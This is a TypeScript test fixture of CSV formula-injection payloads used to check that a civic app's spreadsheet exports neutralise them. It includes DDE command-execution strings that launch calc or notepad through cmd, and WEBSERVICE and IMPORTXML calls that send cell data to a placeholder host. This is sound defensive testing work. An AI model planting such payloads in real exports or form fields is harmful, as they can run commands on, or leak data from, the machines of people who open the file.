/**
 * Formula (CSV) injection payloads, shared by the attack suites: text that a spreadsheet could
 * take for a formula when it opens an export, whichever way it splits a CSV line into cells.
 * Each payload is at most 200 characters, the smallest limit of a text field it goes into (a
 * poll option's or a form field's label), and has visible text after trimming (the API trims
 * what it stores).
 *
 * `kind: 'legitimate'` marks what a resident may well type and must come out as they typed it:
 * `intact` ones without any change at all, the others (a plain `-5`, a phone number with its
 * `+`) as text that may carry the export's neutraliser in front.
 */

export type FormulaKind =
  | 'prefix'
  | 'whitespace'
  | 'fullwidth'
  | 'delimiter'
  | 'quote'
  | 'line-break'
  | 'oddity'
  | 'legitimate';

export interface FormulaPayload {
  /** `f01`…, for the test's messages (not in the text: `=1+1` must stay exactly that). */
  readonly id: string;
  readonly kind: FormulaKind;
  readonly text: string;
  /** Legitimate text that must reach the spreadsheet unchanged, character for character. */
  readonly intact?: boolean;
}

const RECIPES: [FormulaKind, string, { intact?: boolean }?][] = [
  // At the start of the cell, each character Excel or LibreOffice starts a formula with.
  ['prefix', '=1+1'],
  ['prefix', '+1+1'],
  ['prefix', '-1+1'],
  ['prefix', '@SUM(1,1)'],
  ['prefix', '=HYPERLINK("http://example.invalid","Lisätietoja")'],
  ['prefix', "=cmd|' /C calc'!A0"],
  ['prefix', "-2+3+cmd|' /C calc'!A0"],
  ['prefix', "@cmd|' /C notepad'!'A1'"],
  ['prefix', '=IMPORTXML("http://example.invalid/x","//a")'],
  ['prefix', '=WEBSERVICE("http://example.invalid/?q="&A1)'],
  ['prefix', '=DDE("soffice";"x";"y")'],
  ['prefix', '=SUM(1;1)'],
  ['prefix', '='],
  // Whitespace in front, which a spreadsheet (or its "trim spaces" option) may drop.
  ['whitespace', ' =1+1'],
  ['whitespace', '   +1+1'],
  ['whitespace', '\t=1+1'],
  ['whitespace', '\r=1+1'],
  ['whitespace', '\n=1+1'],
  ['whitespace', 'Katu 5 \t=1+1'],
  ['whitespace', 'a\u00a0=1+1'],
  // Fullwidth forms, which some programs fold to ASCII.
  ['fullwidth', '＝１＋１'],
  ['fullwidth', '＋1+1'],
  ['fullwidth', '－1+1'],
  ['fullwidth', '＠SUM(1,1)'],
  ['fullwidth', '＝HYPERLINK("http://example.invalid","x")'],
  // Behind a character some program splits at: the cell starts there.
  ['delimiter', 'Katuvalo rikki,=HYPERLINK("http://example.invalid","Lisätietoja")'],
  ['delimiter', 'Puisto;=1+1'],
  ['delimiter', 'a,=1+1'],
  ['delimiter', 'a;=1+1'],
  ['delimiter', 'a,"=1+1"'],
  ['delimiter', 'a;"=1+1"'],
  ['delimiter', 'a\t=1+1'],
  ['delimiter', 'a|=1+1'],
  ['delimiter', 'a, =1+1'],
  ['delimiter', 'a; +1+1'],
  ['delimiter', 'a,-1+1'],
  ['delimiter', 'a;@SUM(1,1)'],
  ['delimiter', 'a,,=1+1'],
  ['delimiter', 'a,"b",=1+1'],
  ['delimiter', '=1+1;b,=2+2\t=3+3|=4+4'],
  ['delimiter', 'a,＝1+1'],
  // Behind quote marks, balanced or not, and quotes that try to close ours.
  ['quote', '"=1+1"'],
  ['quote', '"=1+1'],
  ['quote', '""=1+1'],
  ['quote', 'a","=1+1'],
  ['quote', 'a";=1+1'],
  ['quote', 'a"\n=1+1'],
  // Behind a line break inside the cell (a program may start a row there).
  ['line-break', 'Katu 1\n=1+1'],
  ['line-break', 'Katu 1\r\n=1+1'],
  ['line-break', 'Katu 1\r=1+1'],
  ['line-break', 'Osoite\n\n+1+1'],
  ['line-break', 'a\n"=1+1"'],
  ['line-break', 'a\n =HYPERLINK("http://example.invalid","x")'],
  // Odd encodings and leftovers.
  ['oddity', '0x3D1+1'],
  ['oddity', '%0A=1+1'],
  ['oddity', 'a,%0A=1+1'],
  ['oddity', '=0x41'],
  ['oddity', "'=1+1"],
  ['oddity', '-'],
  ['oddity', '+'],
  // What residents type: must read as they typed it.
  ['legitimate', '-5'],
  ['legitimate', '+358 40 123 4567'],
  ['legitimate', 'Katu 1-3', { intact: true }],
  // (Not a bare "50 %": the spreadsheet itself reads that as a percentage, whatever the export does.)
  ['legitimate', 'Valmis 50 %', { intact: true }],
  ['legitimate', 'Puisto ja leikkipaikka', { intact: true }],
  ['legitimate', 'asukas@example.fi', { intact: true }],
  ['legitimate', 'Pyörätie - Kauppakatu', { intact: true }],
];

export const formulaPayloads: readonly FormulaPayload[] = RECIPES.map(([kind, text, extra], i) => ({
  id: `f${String(i + 1).padStart(2, '0')}`,
  kind,
  text,
  ...extra,
}));
